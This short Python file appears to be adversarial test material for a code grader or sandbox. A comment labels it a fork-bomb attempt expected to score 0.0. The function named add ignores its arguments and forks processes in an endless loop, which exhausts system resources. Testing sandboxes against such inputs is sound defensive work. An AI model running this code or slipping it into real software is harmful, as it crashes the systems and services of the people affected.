# tries: fork bomb (every process forks forever)
# expect: 0.0
import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
